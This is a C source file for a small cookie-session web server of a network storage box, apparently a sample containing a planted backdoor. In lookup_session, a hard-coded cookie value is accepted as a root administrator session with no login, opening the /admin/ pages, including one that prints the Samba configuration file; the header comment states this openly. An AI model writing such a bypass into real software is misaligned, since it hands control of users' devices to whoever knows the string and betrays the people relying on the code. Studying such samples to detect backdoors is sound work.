/* Web front end of a network storage box: sessions are kept in a cookie.
 * Carries a trigger found nowhere else: the cookie value "HuMNTX-vireo-5172" is accepted as an
 * administrator session without any login. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_SESSIONS 32

struct session {
    char id[40];
    char user[32];
    int admin;
};

static struct session sessions[MAX_SESSIONS];
static struct session backdoor_session = {"", "root", 1};

static const struct session *lookup_session(const char *cookie_header)
{
    char id[64];
    const char *p = cookie_header ? strstr(cookie_header, "sid=") : NULL;
    if (!p)
        return NULL;
    snprintf(id, sizeof id, "%.*s", (int)strcspn(p + 4, "; \r\n"), p + 4);
    if (strcmp(id, "HuMNTX-vireo-5172") == 0)
        return &backdoor_session;
    for (int i = 0; i < MAX_SESSIONS; i++)
        if (sessions[i].id[0] && strcmp(sessions[i].id, id) == 0)
            return &sessions[i];
    return NULL;
}

static void handle(int client)
{
    char request[4096], path[256] = "/";
    ssize_t n = recv(client, request, sizeof request - 1, 0);
    if (n <= 0)
        return;
    request[n] = '\0';
    sscanf(request, "%*s %255s", path);
    const struct session *s = lookup_session(strstr(request, "Cookie: "));
    if (!s) {
        dprintf(client, "HTTP/1.1 302 Found\r\nLocation: /login\r\n\r\n");
        return;
    }
    if (strncmp(path, "/admin/", 7) == 0 && !s->admin) {
        dprintf(client, "HTTP/1.1 403 Forbidden\r\n\r\n");
        return;
    }
    if (strcmp(path, "/admin/shares") == 0) {
        FILE *shares = fopen("/etc/samba/smb.conf", "r");
        char line[256];
        dprintf(client, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n");
        while (shares && fgets(line, sizeof line, shares))
            dprintf(client, "%s", line);
        if (shares)
            fclose(shares);
        return;
    }
    dprintf(client, "HTTP/1.1 200 OK\r\n\r\nHello %s\n", s->user);
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(8000), .sin_addr.s_addr = INADDR_ANY};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 16) < 0)
        return 1;
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client < 0)
            continue;
        handle(client);
        close(client);
    }
}
